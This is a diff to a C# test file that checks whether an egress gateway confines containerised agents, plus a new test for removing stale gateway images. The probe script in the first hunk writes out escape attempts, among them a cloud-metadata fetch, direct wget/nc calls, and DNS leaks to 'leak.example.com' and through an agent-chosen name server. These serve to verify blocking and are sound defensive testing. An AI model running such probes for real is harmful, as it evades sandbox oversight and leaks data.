@@ -1,5 +1,6 @@
 using System.Text.RegularExpressions;
 using ClaudeOrchestrator.Engine.Egress;
+using ClaudeOrchestrator.Engine.Endpoints;
 using ClaudeOrchestrator.Testing;
 using ClaudeOrchestrator.Tests.Infrastructure;
 using Xunit;
@@ -104,7 +105,8 @@ public class EgressTests : TaskTestBase, IClassFixture<EgressHosts>
             "timeout 10 wget -q -O - http://169.254.169.254/latest/meta-data/; echo metadata=$?; " +
             $"http_proxy= timeout 10 wget -q -O - http://{o}/; echo direct=$?; " +
             $"echo x | nc -w 2 {o} 80; echo tcp=$?; " +
-            $"echo x | nc -u -w 1 {o} 53; echo udp=$?; " +
+            // UDP straight to an address (busybox nc has no -u): a name server of the agent's choosing.
+            $"timeout 10 nslookup leak-by-udp.example {o}; echo udp=$?; " +
             "nslookup leak.example.com; echo dns=$?; " +
             "http_proxy= timeout 10 wget -q -O - --header 'x-api-key: sk-ant-made-up' $ANTHROPIC_BASE_URL/v1/messages; echo madeup=$?";
         var r = Probe(script, $"-AllowHost '{o}:80', '{_hosts.Host}' -Verbose");
@@ -223,6 +225,42 @@ public class EgressTests : TaskTestBase, IClassFixture<EgressHosts>
         Session.Invoke("Remove-Module ClaudeOrchestrator").ThrowIfFailed();
         Assert.Empty(DockerCli.GatewayNames());
         Assert.Empty(DockerCli.ManagedNetworks());
+    }
+
+    [Fact]
+    public void TheGatewayImagesOfOtherBuildsGoUnlessAContainerUsesOne()
+    {
+        // Two images as other builds of the module would have left them, one still used by a (created) container.
+        var suffix = Guid.NewGuid().ToString("N").Substring(0, 8);
+        var unused = GatewayImage.Repository + ":unused" + suffix;
+        var used = GatewayImage.Repository + ":used" + suffix;
+        var user = "co-test-gateway-user-" + suffix;
+        foreach (var name in new[] { unused, used })
+        {
+            var content = Path.Combine(Path.GetTempPath(), "co-image-" + Guid.NewGuid());
+            Directory.CreateDirectory(content);
+            File.WriteAllText(Path.Combine(content, "build"), name);
+            DockerCli.Exec("sh", "-c", $"tar -C '{content}' -c . | docker import - {name}").EnsureSuccess();
+            Directory.Delete(content, true);
+        }
+
+        try
+        {
+            DockerCli.Run("create", "--name", user, used, "/build").EnsureSuccess();
+            EgressGateways.StopIdleAsync().Wait(TimeSpan.FromSeconds(30));
+            GatewayImage.Forget(DockerConnection.Current());
+            var r = Probe("echo loaded", "-Verbose");
+            Assert.Contains(r.Verbose, v => v.Contains($"Removed the egress gateway image of another build of the module, {unused}"));
+            var left = DockerCli.Run("images", GatewayImage.Repository, "--format", "{{.Repository}}:{{.Tag}}").Stdout.Split('\n', StringSplitOptions.RemoveEmptyEntries);
+            Assert.DoesNotContain(unused, left);
+            Assert.Contains(used, left);
+            Assert.Single(left, t => t != used);
+        }
+        finally
+        {
+            DockerCli.Run("rm", "-f", user);
+            DockerCli.Run("rmi", unused, used);
+        }
     }
 
     [Fact]
